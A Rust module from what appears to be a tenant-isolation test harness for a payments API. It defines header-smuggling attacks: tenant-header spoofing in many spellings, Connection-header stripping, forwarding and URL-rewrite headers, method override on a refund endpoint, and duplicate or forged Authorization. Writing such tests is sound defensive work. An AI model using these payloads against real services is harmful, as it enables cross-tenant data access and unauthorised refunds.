//! Headers that are believed behind a gateway, smuggled past it under every name and spelling.

use super::tokens::expect;
use crate::{
    attack::{Family, attack, control},
    attacker::Attacker,
    http::Ask,
    outcome::Outcome,
    scene::VICTIM,
};

pub(super) const FAMILY: Family = Family {
    name: "header smuggling",
    attacks: &[
        attack!("header-tenant", "X-Tenant-Id of the victim on own requests", Routing, Together, |a| {
            with_each(
                a,
                &[
                    &[("X-Tenant-Id", VICTIM)],
                    &[("x-tenant-id", "GLOBEX")],
                    &[("X-TENANT-ID", "acme, globex")],
                ],
            )
            .await
        }),
        attack!(
            "header-tenant-spellings",
            "the tenant header in every spelling a framework folds together",
            Routing,
            Together,
            |a| {
                with_each(
                    a,
                    &[
                        &[("X_Tenant_Id", VICTIM)],
                        &[("X.Tenant.Id", VICTIM)],
                        &[("X-Tenant_ID", VICTIM)],
                        &[("x~tenant~id", VICTIM)],
                        &[("Tenant-Id", VICTIM)],
                        &[("X-Tenant", VICTIM)],
                        &[("Tenant", VICTIM)],
                        &[("X-TenantId", VICTIM)],
                    ],
                )
                .await
            }
        ),
        attack!(
            "header-tenant-twice",
            "the tenant header twice, own and the victim's in both orders",
            Routing,
            Together,
            |a| {
                with_each(
                    a,
                    &[
                        &[("X-Tenant-Id", "acme"), ("X-Tenant-Id", VICTIM)],
                        &[("X-Tenant-Id", VICTIM), ("X-Tenant-Id", "acme")],
                    ],
                )
                .await
            }
        ),
        attack!(
            "header-connection-listed",
            "the gateway's headers listed in Connection, to be taken off behind it",
            Routing,
            Together,
            |a| {
                let listed = "close, X-Tenant-Id, Txn-Token, Txn-Binding, Authorization, \
                              Ringfence-Reference";
                Outcome::of(
                    &a.send(
                        list(a)
                            .without("connection")
                            .header("Connection", listed)
                            .header("X-Tenant-Id", VICTIM),
                    )
                    .await,
                )
            }
        ),
        attack!("header-txn-token", "an own Txn-Token and binding sent along", Routing, Together, |a| {
            let txn = a
                .loot()
                .database
                .as_ref()
                .and_then(|token| token.split('~').nth(1))
                .unwrap_or("a.b.c")
                .to_owned();
            with_each(
                a,
                &[
                    &[("Txn-Token", &txn), ("Txn-Binding", "AAAA"), ("X-Tenant-Id", VICTIM)],
                    &[("Txn_Token", &txn), ("Ringfence-Reference", "r-1")],
                ],
            )
            .await
        }),
        attack!(
            "header-forwarded",
            "forwarding headers that name the victim's host",
            Routing,
            Together,
            |a| {
                let host = &a.globex().host;
                with_each(
                    a,
                    &[
                        &[("X-Forwarded-Host", host)],
                        &[("Forwarded", &format!("host={host};for=127.0.0.1"))],
                        &[("X-Host", host)],
                        &[("X-Forwarded-Server", host)],
                        &[("X-Original-Host", host)],
                        &[("X-Forwarded-Prefix", "/t/globex")],
                    ],
                )
                .await
            }
        ),
        attack!(
            "header-original-url",
            "X-Original-URL and X-Rewrite-URL of the victim's payment",
            Routing,
            Together,
            |a| {
                let path = format!("/payments/{}", a.target.payment);
                with_each(
                    a,
                    &[
                        &[("X-Original-URL", &path)],
                        &[("X-Rewrite-URL", &path)],
                        &[("X-Original-URI", &path)],
                    ],
                )
                .await
            }
        ),
        attack!("header-method-override", "a GET that says it is a POST", Routing, Alone, |a| {
            let refund = format!("/payments/{}/refund", a.target.payment);
            let mut tries = Vec::new();
            for name in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"] {
                let ask = a
                    .mine("GET", &refund)
                    .without("authorization")
                    .bearer(&a.token("viewer"))
                    .header(name, "POST");
                tries.push(Outcome::of(&a.send(ask).await));
            }
            Outcome::furthest(tries)
        }),
        attack!(
            "header-authorization-twice",
            "two Authorization headers, lists, other schemes",
            Token,
            Together,
            |a| {
                let (own, theirs) = (a.token("admin"), a.made(&a.claims(VICTIM, "admin")));
                let bare = || Ask::get("/payments", &a.globex().host);
                let tries = [
                    a.send(bare().bearer(&own).bearer(&theirs)).await,
                    a.send(bare().header("Authorization", &format!("Bearer {own}, Bearer {theirs}"))).await,
                    a.send(bare().header("Authorization", &format!("bearer  {theirs}"))).await,
                    a.send(bare().header("Authorization", "Basic Z2xvYmV4Og==")).await,
                    a.send(bare().header("X-Authorization", &format!("Bearer {own}"))).await,
                    a.send(bare().header("Proxy-Authorization", &format!("Bearer {own}"))).await,
                    a.send(bare().header("Cookie", &format!("access_token={own}; tenant=globex"))).await,
                ];
                Outcome::furthest(tries.iter().map(Outcome::of))
            }
        ),
        attack!("header-user", "headers by which proxies name a user", Routing, Together, |a| {
            with_each(
                a,
                &[
                    &[("X-User-Id", "admin"), ("X-Remote-User", "admin"), ("X-Roles", "admin")],
                    &[("X-Auth-Request-User", "admin"), ("X-Scope-OrgID", VICTIM), ("X-Org-Id", VICTIM)],
                    &[("X-Amzn-Oidc-Data", "e30.e30.AA"), ("X-Account-Id", VICTIM)],
                ],
            )
            .await
        }),
    ],
    controls: &[control!("an own request with headers that mean nothing", |a| {
        expect(&a.send(list(a).header("X-Request-Id", "1").header("traceparent", "00-1-1-00")).await, 200)
    })],
};

fn list(a: &Attacker) -> Ask {
    a.mine("GET", "/payments")
}

/// Own requests with these headers, and the same at the victim's address.
async fn with_each(a: &Attacker, sets: &[&[(&str, &str)]]) -> Outcome {
    let mut tries = Vec::new();
    for set in sets {
        let add = |ask: Ask| set.iter().fold(ask, |ask, (name, value)| ask.header(name, value));
        tries.push(Outcome::of(&a.send(add(list(a))).await));
        let one = format!("/payments/{}", a.target.payment);
        tries.push(Outcome::of(&a.send(add(a.mine("GET", &one))).await));
        let theirs = a.theirs("GET", "/payments").bearer(&a.token("admin"));
        tries.push(Outcome::of(&a.send(add(theirs)).await));
    }
    Outcome::furthest(tries)
}
